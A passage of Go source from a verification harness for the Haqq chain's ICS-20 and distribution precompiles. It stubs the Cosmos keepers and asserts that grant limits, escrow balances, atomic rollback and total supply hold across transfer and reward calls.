			zz.Assert(icsNum(db.GetState(icsToken, icsSlotBal)) == truth, "the contract reads its real token balance")
		case 2: // token.burn(1): SLOAD, SSTORE on both slots
			b, t := icsNum(db.GetState(icsToken, icsSlotBal)), icsNum(db.GetState(icsToken, icsSlotTotal))
			db.SetState(icsToken, icsSlotBal, icsWord(b-1))
			db.SetState(icsToken, icsSlotTotal, icsWord(t-1))
			burnt++
			truth--
		}
	}
	step("before")

	amount := converted
	if amount == 0 {
		amount = 250
	}
	icsRun.ctx, icsRun.db, icsRun.method = ctx, db, icsMethod
	icsRun.args = []interface{}{"transfer", "channel-0", "acoin", sdkmath.NewInt(int64(amount)).BigInt(), icsContract, icsReceiver, clienttypes.NewHeight(1, 100), uint64(0), "memo"}
	evm := &vm.EVM{TxContext: vm.TxContext{Origin: icsOrigin}, StateDB: db}
	snap := db.Snapshot()
	_, err := p.Run(evm, &vm.Contract{CallerAddress: icsContract, Gas: 1 << 40}, false)
	ok := err == nil
	if !ok {
		db.RevertToSnapshot(snap)
		zz.Reach("precompile-failed")
	} else {
		zz.Assert(!ics.fail, "a transfer the module refuses fails")
		truth -= converted
		zz.Reach("transferred")
	}
	step("after")
	if err := db.Commit(); err != nil {
		panic(err)
	}
	done := 0
	if ok {
		done = converted
	}
	bal, total := icsNum(keeper.GetState(ctx, icsToken, icsSlotBal)), icsNum(keeper.GetState(ctx, icsToken, icsSlotTotal))
	escrow := icsNum(common.BytesToHash(ctx.KVStore(keeper.key).Get(icsEscrowKey)))
	zz.Assert(escrow == initial-done, "the escrow released exactly the converted coins (none when the call failed)")
	zz.Assert(bal == initial-burnt-done, "the contract's token balance is debited by exactly what it burnt and what was converted")
	zz.Assert(total == initial-burnt-done, "the total supply is reduced by exactly what was burnt and what was converted")
	zz.Assert(total <= escrow, "the ERC20 total supply never exceeds the coins escrowed in the module account")
	zz.Reach("end")
}


var icsGrantKey = []byte("remaining limit of the grant contract <- signer")

// VerifC05_Ics20RunAtomic: the real ICS-20 Precompile.Run for a transfer of the signer's coins by a contract under a limited
// grant. The coins the transfer module escrows and the remaining limit of the grant are kept in a KV store of the context the
// stubs are handed, so they follow the cached context of Run. The call fails when the module refuses, when the amount
// exceeds the limit, or when the SDK gas meter runs out at the grant update - the only charged write, after the coins have
// moved. A failed call leaves escrow and grant exactly as they were; a successful one escrows the amount and reduces the
// grant by it.
func VerifC05_Ics20RunAtomic() {
	env := zz.NewEnv([]string{"evmstorage"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0)).WithGasMeter(sdk.NewInfiniteGasMeter())
	ics.grants, ics.msgs, ics.alias = map[string]*icsGrant{}, nil, nil
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &icsBank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	for _, a := range []common.Address{icsOrigin, icsContract, icsEscrow} {
		bank.bal[a] = sdk.ZeroInt()
	}
	ics.bank = bank
	keeper := icsTokenKeeper{icsBank: bank, key: env.Key("evmstorage")}
	limit := 1 + zz.Choose("limit", 3)
	amount := 1 + zz.Choose("amount", 4)
	store := ctx.KVStore(keeper.key)
	store.Set(icsEscrowKey, icsWord(0).Bytes())
	store.Set(icsGrantKey, icsWord(limit).Bytes())
	ics.grants[icsKey(icsContract.Bytes(), icsOrigin.Bytes())] = &icsGrant{auth: &transfertypes.TransferAuthorization{Allocations: []transfertypes.Allocation{
		{SourcePort: "transfer", SourceChannel: "channel-0", SpendLimit: sdk.NewCoins(sdk.NewCoin("acoin", sdkmath.NewInt(int64(limit))))}}}}
	ics.fail = zz.AnyBool("moduleRefuses")
	oog := zz.AnyBool("gasRunsOutAtTheGrantUpdate")
	ics.nested = func(c sdk.Context, m *transfertypes.MsgTransfer) {
		bank.bal[icsOrigin] = m.Token.Amount // the signer holds the coins
		st := c.KVStore(keeper.key)
		st.Set(icsEscrowKey, icsWord(icsNum(common.BytesToHash(st.Get(icsEscrowKey)))+int(m.Token.Amount.Int64())).Bytes())
	}
	ics.grantWrite = func(c sdk.Context, a authz.Authorization) {
		if oog {
			panic(sdk.ErrorOutOfGas{Descriptor: "harness: gas ran out at the grant update"})
		}
		left := 0
		if ta, ok := a.(*transfertypes.TransferAuthorization); ok && len(ta.Allocations) == 1 {
			left = int(ta.Allocations[0].SpendLimit.AmountOf("acoin").Int64())
		}
		c.KVStore(keeper.key).Set(icsGrantKey, icsWord(left).Bytes())
	}
	defer func() { ics.nested, ics.grantWrite = nil, nil }()

	db := statedb.New(ctx, keeper, statedb.NewEmptyTxConfig(common.Hash{}))
	db.GetBalance(icsOrigin)
	db.GetCodeHash(icsContract)
	icsRun.ctx, icsRun.db, icsRun.method = ctx, db, icsMethod
	icsRun.args = []interface{}{"transfer", "channel-0", "acoin", sdkmath.NewInt(int64(amount)).BigInt(), icsOrigin, icsReceiver, clienttypes.NewHeight(1, 100), uint64(0), "memo"}
	evm := &vm.EVM{TxContext: vm.TxContext{Origin: icsOrigin}, StateDB: db}
	snap := db.Snapshot()
	_, err := p.Run(evm, &vm.Contract{CallerAddress: icsContract, Gas: 1 << 40}, false)
	if err != nil {
		db.RevertToSnapshot(snap)
	}
	escrow := icsNum(common.BytesToHash(ctx.KVStore(keeper.key).Get(icsEscrowKey)))
	left := icsNum(common.BytesToHash(ctx.KVStore(keeper.key).Get(icsGrantKey)))
	if err != nil {
		zz.Assert(escrow == 0, "a failed transfer call leaves no coins escrowed (also when the gas runs out after the coins moved)")
		zz.Assert(left == limit, "a failed transfer call leaves the grant as it was")
		zz.Reach("failed")
	} else {
		zz.Assert(!ics.fail && !oog && amount <= limit, "a call the module refuses, that exceeds the grant or that runs out of gas fails")
		zz.Assert(escrow == amount, "a successful call escrows exactly the amount")
		zz.Assert(left == limit-amount, "a successful call reduces the grant by exactly the amount")
		zz.Reach("succeeded")
	}
	zz.Reach("end")
}
