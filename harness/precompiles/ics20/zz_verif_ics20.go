package ics20

// Harness for the ICS-20 precompile (properties C04, C16, C02): the real Transfer method body, NewMsgTransfer /
// MsgTransfer.ValidateBasic, CheckAndAcceptAuthorizationIfNeeded / AcceptGrant (with ibc-go's real TransferAuthorization.Accept)
// and UpdateGrantIfNeeded, over the real StateDB. The authz store is a map, the transfer module escrows the token in a bank
// ledger whose SetAccount mints / burns the difference like x/evm/keeper.SetBalance, the channel keeper knows two channels.

import (
	"context"
	"errors"
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	authzkeeper "github.com/cosmos/cosmos-sdk/x/authz/keeper"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	clienttypes "github.com/cosmos/ibc-go/v7/modules/core/02-client/types"
	channelkeeper "github.com/cosmos/ibc-go/v7/modules/core/04-channel/keeper"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/x/evm/statedb"
	transferkeeper "github.com/haqq-network/haqq/x/ibc/transfer/keeper"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/cosmos/cosmos-sdk/x/authz/keeper.Keeper).GetAuthorization -> icsGetAuthorization
//verif:override (github.com/cosmos/cosmos-sdk/x/authz/keeper.Keeper).SaveGrant -> icsSaveGrant
//verif:override (github.com/cosmos/cosmos-sdk/x/authz/keeper.Keeper).DeleteGrant -> icsDeleteGrant
//verif:override (github.com/haqq-network/haqq/x/ibc/transfer/keeper.Keeper).Transfer -> icsTransfer
//verif:override (github.com/cosmos/ibc-go/v7/modules/core/04-channel/keeper.Keeper).HasChannel -> icsHasChannel
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).BondDenom -> icsBondDenom
//verif:override github.com/haqq-network/haqq/precompiles/ics20.EmitIBCTransferEvent -> icsEmit
//verif:override (github.com/ethereum/go-ethereum/accounts/abi.Arguments).Copy -> icsCopy

var (
	icsOrigin   = common.HexToAddress("0x1000000000000000000000000000000000000001")
	icsContract = common.HexToAddress("0x2000000000000000000000000000000000000002")
	icsOther    = common.HexToAddress("0x3000000000000000000000000000000000000003")
	icsEscrow   = common.HexToAddress("0x4000000000000000000000000000000000000004")
	icsAddrs    = []common.Address{icsOrigin, icsContract, icsOther}
	icsReceiver = "cosmos1receiver"
)

type icsGrant struct {
	auth authz.Authorization
	exp  *time.Time
}

var ics struct {
	grants map[string]*icsGrant
	msgs   []*transfertypes.MsgTransfer
	bank   *icsBank
	fail   bool
	alias  map[string]string // registered ERC20 alias of a coin -> the coin's denomination
	// nested: what the wrapper does before the transfer proper (the automatic ERC20 -> coin conversion), in the context given
	nested func(ctx sdk.Context, m *transfertypes.MsgTransfer)
	// grantWrite: called with the context of every grant write (save / delete) before it takes effect; lets a harness keep a
	// copy of the grant in the context's own store and make the SDK gas meter run out at that write
	grantWrite func(ctx sdk.Context, a authz.Authorization)
}

func icsKey(grantee, granter sdk.AccAddress) string { return grantee.String() + "|" + granter.String() }

func icsGetAuthorization(k authzkeeper.Keeper, ctx sdk.Context, grantee, granter sdk.AccAddress, msgType string) (authz.Authorization, *time.Time) {
	g, ok := ics.grants[icsKey(grantee, granter)]
	if !ok || g.auth.MsgTypeURL() != msgType {
		return nil, nil
	}
	// the real keeper unmarshals a fresh object from the store on every read: hand out a copy, never the stored object
	if ta, isT := g.auth.(*transfertypes.TransferAuthorization); isT {
		cp := &transfertypes.TransferAuthorization{Allocations: make([]transfertypes.Allocation, len(ta.Allocations))}
		copy(cp.Allocations, ta.Allocations)
		for i := range cp.Allocations {
			// protobuf decoding turns an empty repeated field into nil (an allowance decreased to exactly zero is stored as
			// an allocation with an empty spend limit)
			if len(cp.Allocations[i].SpendLimit) == 0 {
				cp.Allocations[i].SpendLimit = nil
			}
			if len(cp.Allocations[i].AllowList) == 0 {
				cp.Allocations[i].AllowList = nil
			}
		}
		return cp, g.exp
	}
	return g.auth, g.exp
}
func icsSaveGrant(k authzkeeper.Keeper, ctx sdk.Context, grantee, granter sdk.AccAddress, a authz.Authorization, expiration *time.Time) error {
	if ics.grantWrite != nil {
		ics.grantWrite(ctx, a)
	}
	ics.grants[icsKey(grantee, granter)] = &icsGrant{auth: a, exp: expiration}
	return nil
}
func icsDeleteGrant(k authzkeeper.Keeper, ctx sdk.Context, grantee, granter sdk.AccAddress, msgType string) error {
	key := icsKey(grantee, granter)
	if _, ok := ics.grants[key]; !ok {
		return errors.New("authorization not found")
	}
	if ics.grantWrite != nil {
		ics.grantWrite(ctx, nil)
	}
	delete(ics.grants, key)
	return nil
}
func icsTransfer(k transferkeeper.Keeper, goCtx context.Context, m *transfertypes.MsgTransfer) (*transfertypes.MsgTransferResponse, error) {
	if ics.nested != nil {
		ics.nested(sdk.UnwrapSDKContext(goCtx), m)
	}
	if ics.fail {
		return nil, errors.New("transfer module refused")
	}
	if m.TimeoutHeight.IsZero() && m.TimeoutTimestamp == 0 { // IBC core refuses a packet that can never time out
		return nil, errors.New("packet timeout height and packet timeout timestamp cannot both be 0")
	}
	// Haqq's wrapper around the IBC transfer keeper: a registered ERC20 alias of a coin is rewritten to the coin's own
	// denomination in the message before the transfer proper (x/ibc/transfer/keeper/msg_server.go)
	if to, ok := ics.alias[m.Token.Denom]; ok {
		m.Token.Denom = to
	}
	from := common.BytesToAddress(sdk.MustAccAddressFromBech32(m.Sender).Bytes())
	if ics.bank.get(from).LT(m.Token.Amount) {
		return nil, errors.New("insufficient funds")
	}
	ics.bank.bal[from] = ics.bank.get(from).Sub(m.Token.Amount)
	ics.bank.bal[icsEscrow] = ics.bank.get(icsEscrow).Add(m.Token.Amount)
	ics.msgs = append(ics.msgs, m)
	return &transfertypes.MsgTransferResponse{Sequence: 7}, nil
}
func icsHasChannel(k channelkeeper.Keeper, ctx sdk.Context, portID, channelID string) bool {
	return portID == "transfer" && (channelID == "channel-0" || channelID == "channel-1")
}
func icsBondDenom(k sdkstakingkeeper.Keeper, ctx sdk.Context) string { return "aISLM" }
func icsEmit(ctx sdk.Context, stateDB vm.StateDB, event abi.Event, precompileAddr, senderAddr common.Address, receiver string,
	sourcePort, sourceChannel string, token sdk.Coin, memo string) error {
	return nil
}
func icsCopy(args abi.Arguments, v interface{}, values []interface{}) error {
	switch t := v.(type) {
	case *height:
		t.TimeoutHeight = values[0].(clienttypes.Height)
	case *allocs:
		t.Allocations = values[0].([]cmn.ICS20Allocation)
	default:
		return errors.New("unexpected Copy target")
	}
	return nil
}

type icsBank struct {
	bal    map[common.Address]sdkmath.Int
	supply sdkmath.Int
}

func (l *icsBank) get(a common.Address) sdkmath.Int {
	if v, ok := l.bal[a]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func (l *icsBank) GetAccount(ctx sdk.Context, addr common.Address) *statedb.Account {
	v, ok := l.bal[addr]
	if !ok {
		return nil
	}
	return &statedb.Account{Balance: v.BigInt()}
}
func (l *icsBank) GetState(ctx sdk.Context, addr common.Address, key common.Hash) common.Hash { return common.Hash{} }
func (l *icsBank) GetCode(ctx sdk.Context, codeHash common.Hash) []byte                        { return nil }
func (l *icsBank) ForEachStorage(ctx sdk.Context, addr common.Address, cb func(key, value common.Hash) bool) {
}
func (l *icsBank) SetAccount(ctx sdk.Context, addr common.Address, account statedb.Account) error {
	nb := sdkmath.NewIntFromBigInt(account.Balance)
	l.supply = l.supply.Add(nb.Sub(l.get(addr)))
	l.bal[addr] = nb
	return nil
}
func (l *icsBank) SetState(ctx sdk.Context, addr common.Address, key common.Hash, value []byte) {}
func (l *icsBank) SetCode(ctx sdk.Context, codeHash []byte, code []byte)                        {}
func (l *icsBank) DeleteAccount(ctx sdk.Context, addr common.Address) error                     { return nil }

func icsTag(a common.Address) string { return string(rune('A' + int(a[0]>>4) - 1)) }

var icsMethod = &abi.Method{Name: TransferMethod, Inputs: make(abi.Arguments, 9)}

// icsAllocLimit reads the stored grant contract <- signer: (exists, has allocation for the channel, limit of aISLM there).
func icsAllocLimit(channel string) (bool, bool, sdkmath.Int) {
	g, ok := ics.grants[icsKey(icsContract.Bytes(), icsOrigin.Bytes())]
	if !ok {
		return false, false, sdk.ZeroInt()
	}
	ta, ok := g.auth.(*transfertypes.TransferAuthorization)
	if !ok {
		return true, false, sdk.ZeroInt()
	}
	for _, a := range ta.Allocations {
		if a.SourcePort == "transfer" && a.SourceChannel == channel {
			return true, true, a.SpendLimit.AmountOf("aISLM")
		}
	}
	return true, false, sdk.ZeroInt()
}

// VerifC04_Ics20: a successful transfer call acts for the signer or the immediate caller only; a caller other than the signer
// needs a live transfer grant from the signer covering channel, receiver and amount; a limited grant is reduced by exactly the
// amount and never overspent; the message that reaches the transfer module has exactly the call's fields (C16); after the
// final Commit the supply is unchanged and every balance is before - escrowed (C02).
func VerifC04_Ics20() {
	env := zz.NewEnv([]string{"ibc"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	ics.grants, ics.msgs = map[string]*icsGrant{}, nil
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &icsBank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	ics.bank = bank
	exp := map[common.Address]sdkmath.Int{}
	for _, a := range icsAddrs {
		b := zz.AnyAmount("bal."+icsTag(a), 100)
		bank.bal[a], exp[a] = b, b
		bank.supply = bank.supply.Add(b)
	}
	bank.bal[icsEscrow], exp[icsEscrow] = sdk.ZeroInt(), sdk.ZeroInt()
	supply0 := bank.supply
	db := statedb.New(ctx, bank, statedb.NewEmptyTxConfig(common.Hash{}))
	db.GetBalance(icsOrigin) // evm.Call -> Transfer loads the signer's account

	caller := icsAddrs[zz.Choose("caller", 2)]
	sender := icsAddrs[zz.Choose("sender", 3)]
	touchedOrigin := false
	if caller == icsContract {
		db.GetCodeHash(icsContract)
		if zz.AnyBool("withValue") {
			v := zz.AnyAmount("value", 64)
			if db.GetBalance(icsOrigin).Cmp(v.BigInt()) < 0 {
				zz.Reach("cannot-pay-value")
				return
			}
			db.SubBalance(icsOrigin, v.BigInt())
			db.AddBalance(icsContract, v.BigInt())
			exp[icsOrigin], exp[icsContract] = exp[icsOrigin].Sub(v), exp[icsContract].Add(v)
			if v.IsPositive() {
				touchedOrigin = true
			}
		}
	}
	channel := []string{"channel-0", "channel-1", "channel-9"}[zz.Choose("channel", 3)]
	amt := zz.AnyAmount("amount", 100)
	// grant contract <- signer: absent / generic (wrong type) / limited on channel-0 / unlimited on channel-0 / limited on
	// channel-0 with an allow list that does not contain the receiver
	grantKind := zz.Choose("grant", 5)
	limit := sdk.ZeroInt()
	gKey := icsKey(icsContract.Bytes(), icsOrigin.Bytes())
	switch grantKind {
	case 1:
		ics.grants[gKey] = &icsGrant{auth: authz.NewGenericAuthorization(TransferMsgURL)}
	case 2, 4:
		limit = zz.AnyAmount("limit", 100)
		zz.Assume(limit.IsPositive())
		al := transfertypes.Allocation{SourcePort: "transfer", SourceChannel: "channel-0", SpendLimit: sdk.NewCoins(sdk.NewCoin("aISLM", limit))}
		if grantKind == 4 {
			al.AllowList = []string{"cosmos1someoneelse"}
		}
		ics.grants[gKey] = &icsGrant{auth: &transfertypes.TransferAuthorization{Allocations: []transfertypes.Allocation{al}}}
	case 3:
		ics.grants[gKey] = &icsGrant{auth: &transfertypes.TransferAuthorization{Allocations: []transfertypes.Allocation{
			{SourcePort: "transfer", SourceChannel: "channel-0", SpendLimit: sdk.NewCoins(sdk.NewCoin("aISLM", transfertypes.UnboundedSpendLimit()))}}}}
	}
	ics.fail = zz.AnyBool("moduleRefuses")

	if err := db.Commit(); err != nil { // Precompile.Run flushes first
		panic(err)
	}
	snap := db.Snapshot()
	// the timeout of the call: a height, a timestamp, or neither (which the IBC module refuses for the native message)
	toH, toTS := clienttypes.NewHeight(1, 100), uint64(0)
	switch zz.Choose("timeout", 3) {
	case 1:
		toH, toTS = clienttypes.NewHeight(0, 0), 1800000000000000000
	case 2:
		toH, toTS = clienttypes.NewHeight(0, 0), 0
	}
	args := []interface{}{"transfer", channel, "aISLM", amt.BigInt(), sender, icsReceiver, toH, toTS, "memo"}
	_, err := p.Transfer(ctx, icsOrigin, &vm.Contract{CallerAddress: caller}, db, icsMethod, args)
	if err != nil {
		zz.Assert(len(ics.msgs) == 0, "a failed call does not reach the transfer module")
		e, has, v := icsAllocLimit("channel-0")
		if grantKind == 2 || grantKind == 4 {
			zz.Assert(e && has && v.Equal(limit), "a failed call leaves the grant untouched")
		}
		db.RevertToSnapshot(snap)
		zz.Reach("rejected")
	} else {
		zz.Reach("accepted")
		// C16: exactly one native message with exactly the call's fields
		zz.Assert(len(ics.msgs) == 1, "exactly one message reaches the transfer module")
		m := ics.msgs[0]
		zz.Assert(m.SourcePort == "transfer" && m.SourceChannel == channel && m.Token.Denom == "aISLM" && m.Token.Amount.Equal(amt) &&
			m.Receiver == icsReceiver && m.Memo == "memo" && m.TimeoutTimestamp == toTS && m.TimeoutHeight.RevisionNumber == toH.RevisionNumber && m.TimeoutHeight.RevisionHeight == toH.RevisionHeight,
			"port, channel, token, receiver, timeout and memo are those of the call")
		zz.Assert(m.Sender == sdk.AccAddress(sender.Bytes()).String(), "the sender of the native message is the named account")
		// C04
		zz.Assert(sender == icsOrigin || sender == caller, "the account acted for is the transaction signer or the calling contract")
		zz.Assert(channel != "channel-9", "a transfer over a channel that does not exist is refused")
		zz.Assert(amt.IsPositive(), "a zero transfer is refused")
		if caller != icsOrigin {
			zz.Assert((grantKind == 2 || grantKind == 3) && channel == "channel-0", "a caller other than the signer needs a live transfer grant for this channel and receiver")
			zz.Reach("contract-caller-accepted")
			e, has, v := icsAllocLimit("channel-0")
			if grantKind == 2 {
				zz.Assert(amt.LTE(limit), "a limited grant is never overspent")
				if amt.Equal(limit) {
					zz.Assert(!e, "a fully used grant is removed")
				} else {
					zz.Assert(e && has && v.Equal(limit.Sub(amt)), "a limited grant is reduced by exactly the amount used")
				}
			} else {
				zz.Assert(e && has && v.Equal(transfertypes.UnboundedSpendLimit()), "an unlimited grant stays unlimited")
			}
		}
		exp[sender], exp[icsEscrow] = exp[sender].Sub(amt), exp[icsEscrow].Add(amt)
	}
	if err := db.Commit(); err != nil {
		panic(err)
	}
	if zz.ParamInt("checkSupply", 1) == 0 {
		zz.Reach("end")
		return
	}
	// C02
	shape := ""
	if err == nil && sender == icsOrigin && caller != icsOrigin && touchedOrigin {
		shape = " [shape C02-F4 ics20 sender = signer, caller = contract, signer journal-dirty]"
	}
	zz.ObserveInt("supply", bank.supply)
	zz.Assert(bank.supply.Equal(supply0), "EVM execution leaves the total supply unchanged"+shape)
	for _, a := range []common.Address{icsOrigin, icsContract, icsOther, icsEscrow} {
		zz.ObserveInt("final."+icsTag(a), bank.get(a))
		zz.Assert(bank.get(a).Equal(exp[a]), "every bank balance = before + received - sent - escrowed"+shape)
	}
	zz.Reach("end")
}

var _ = big.NewInt


// VerifC16_Ics20AliasDenom: the bond denomination may be registered as an ERC20 token pair; a transfer can then name it by
// its alias erc20/<contract>. The native message debits the sender's aISLM all the same (the wrapper rewrites the
// denomination), so the precompile call has to end with the same bank balances: here a contract that received value in this
// transaction (its account is journal-dirty) transfers its own coins.
func VerifC16_Ics20AliasDenom() {
	env := zz.NewEnv([]string{"ibc"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	const aliasDenom = "erc20/0x00000000000000000000000000000000000000AA"
	ics.grants, ics.msgs, ics.fail = map[string]*icsGrant{}, nil, false
	ics.alias = map[string]string{aliasDenom: "aISLM"}
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &icsBank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	ics.bank = bank
	exp := map[common.Address]sdkmath.Int{}
	for _, a := range icsAddrs {
		b := zz.AnyAmount("bal."+icsTag(a), 100)
		bank.bal[a], exp[a] = b, b
		bank.supply = bank.supply.Add(b)
	}
	bank.bal[icsEscrow], exp[icsEscrow] = sdk.ZeroInt(), sdk.ZeroInt()
	supply0 := bank.supply
	db := statedb.New(ctx, bank, statedb.NewEmptyTxConfig(common.Hash{}))
	db.GetBalance(icsOrigin)
	db.GetCodeHash(icsContract)
	// the signer pays the contract (deposit-and-bridge in one transaction)
	v := zz.AnyAmount("value", 64)
	if db.GetBalance(icsOrigin).Cmp(v.BigInt()) < 0 {
		zz.Reach("?cannot-pay-value")
		return
	}
	db.SubBalance(icsOrigin, v.BigInt())
	db.AddBalance(icsContract, v.BigInt())
	exp[icsOrigin], exp[icsContract] = exp[icsOrigin].Sub(v), exp[icsContract].Add(v)
	denom := []string{"aISLM", aliasDenom}[zz.Choose("denomSpelling", 2)]
	ics.grants[icsKey(icsContract.Bytes(), icsOrigin.Bytes())] = &icsGrant{auth: &transfertypes.TransferAuthorization{Allocations: []transfertypes.Allocation{
		{SourcePort: "transfer", SourceChannel: "channel-0", SpendLimit: sdk.NewCoins(sdk.NewCoin(denom, transfertypes.UnboundedSpendLimit()))}}}}
	amt := zz.AnyAmount("amount", 100)
	if err := db.Commit(); err != nil { // Precompile.Run flushes first
		panic(err)
	}
	snap := db.Snapshot()
	args := []interface{}{"transfer", "channel-0", denom, amt.BigInt(), icsContract, icsReceiver, clienttypes.NewHeight(1, 100), uint64(0), "memo"}
	_, err := p.Transfer(ctx, icsOrigin, &vm.Contract{CallerAddress: icsContract}, db, icsMethod, args)
	if err != nil {
		db.RevertToSnapshot(snap)
		zz.Reach("?rejected")
	} else {
		zz.Assert(len(ics.msgs) == 1 && ics.msgs[0].Token.Denom == "aISLM" && ics.msgs[0].Token.Amount.Equal(amt), "the transfer module moved the coin the alias stands for")
		exp[icsContract], exp[icsEscrow] = exp[icsContract].Sub(amt), exp[icsEscrow].Add(amt)
		zz.Reach("transferred")
	}
	if err := db.Commit(); err != nil {
		panic(err)
	}
	zz.Assert(bank.supply.Equal(supply0), "the call leaves the supply as the native message would (unchanged), whichever way the denomination is spelled")
	for _, a := range []common.Address{icsOrigin, icsContract, icsEscrow} {
		zz.Assert(bank.get(a).Equal(exp[a]), "every bank balance ends where the native message would leave it")
	}
	zz.Reach("end")
}
