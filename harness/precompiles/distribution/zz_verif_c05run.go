package distribution

// Harness for property C05 through the real distribution Precompile.Run: a state-changing call either succeeds as a whole or
// leaves nothing behind in the Cosmos-side state - also when the SDK gas meter runs out between two store writes of the
// module (the pool debited, the beneficiary not yet credited). RunSetup (ABI decoding, gas meter set-up) is replaced by
// handing the decoded values over; everything after it in Run is the real code. The module's state follows the context's
// store branching (zz.Journal).

import (
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/x/evm/statedb"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/haqq-network/haqq/precompiles/common.Precompile).RunSetup -> c02RunSetup

func c02RunSetup(p cmn.Precompile, evm *vm.EVM, contract *vm.Contract, readOnly bool, isTransaction func(name string) bool) (sdk.Context, *statedb.StateDB, *abi.Method, sdk.Gas, []interface{}, error) {
	return c02.run.ctx, c02.run.db, c02.run.method, 0, c02.run.args, nil
}

func VerifC05_DistributionRunAtomic() {
	env := zz.NewEnv([]string{"distribution"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0)).WithGasMeter(sdk.NewInfiniteGasMeter())
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &c02Bank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	base := map[common.Address]sdkmath.Int{}
	for _, a := range c02Addrs {
		b := zz.AnyAmount("bal."+c02Tag(a), 100)
		bank.bal[a], base[a] = b, b
	}
	c02.bank, c02.withdraw, c02.paid, c02.acted = bank, map[common.Address]common.Address{}, 0, nil
	c02.due = zz.AnyAmount("due", 100)
	zz.Assume(c02.due.IsPositive())
	c02.journal = zz.NewJournal(env.Key("distribution"), "distribution", func() {
		c02.bank.bal = map[common.Address]sdkmath.Int{}
		for a, b := range base {
			c02.bank.bal[a] = b
		}
		c02.withdraw, c02.paid, c02.acted = map[common.Address]common.Address{}, 0, nil
	})
	c02.journal.OutOfGasAt = zz.Choose("gasRunsOutAtWrite", 4) - 1 // -1: never
	db := statedb.New(ctx, bank, statedb.NewEmptyTxConfig(common.Hash{}))
	db.GetBalance(c02Origin)
	mname := []string{WithdrawDelegatorRewardsMethod, ClaimRewardsMethod, SetWithdrawAddressMethod}[zz.Choose("method", 3)]
	var args []interface{}
	switch mname {
	case WithdrawDelegatorRewardsMethod:
		args = []interface{}{c02Origin, c02Val}
	case ClaimRewardsMethod:
		args = []interface{}{c02Origin, uint32(1)}
	default:
		args = []interface{}{c02Origin, sdk.AccAddress(c02Other.Bytes()).String()}
	}
	c02.run.ctx, c02.run.db, c02.run.method, c02.run.args = ctx, db, &abi.Method{Name: mname}, args
	evm := &vm.EVM{TxContext: vm.TxContext{Origin: c02Origin}, StateDB: db}
	snap := db.Snapshot()
	_, err := p.Run(evm, &vm.Contract{CallerAddress: c02Origin, Gas: 1 << 40}, false)
	if err != nil {
		db.RevertToSnapshot(snap)
	}
	c02.journal.Sync(ctx) // the Cosmos-side state the transaction is left with
	if err != nil {
		zz.Assert(c02.paid == 0 && len(c02.acted) == 0 && len(c02.withdraw) == 0, "a failed call leaves no payout and no withdraw address behind")
		for _, a := range c02Addrs {
			zz.Assert(c02.bank.get(a).Equal(base[a]), "a failed call leaves every balance of the module's ledger as it was (no half-paid reward)")
		}
		zz.Reach("failed")
	} else {
		if mname == SetWithdrawAddressMethod {
			zz.Assert(c02.withdraw[c02Origin] == c02Other, "the withdraw address is set")
		} else {
			zz.Assert(c02.paid == 1, "exactly one payout")
			zz.Assert(c02.bank.get(c02Pool).Equal(base[c02Pool].Sub(c02.due)), "the pool paid the rewards once")
		}
		zz.Reach("succeeded")
	}
	zz.Reach("end")
}
