package distribution

// Harness for property C02 around the distribution precompile: the real StateDB and the real method bodies
// (WithdrawDelegatorRewards, ClaimRewards, WithdrawValidatorCommission and their balance mirroring) over a bank ledger
// whose SetAccount mints / burns the difference like x/evm/keeper.SetBalance. The distribution module is a message server /
// keeper stub that pays the outstanding amount from the distribution pool to the beneficiary's withdraw address.

import (
	"context"
	"errors"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	distributionkeeper "github.com/cosmos/cosmos-sdk/x/distribution/keeper"
	distributiontypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
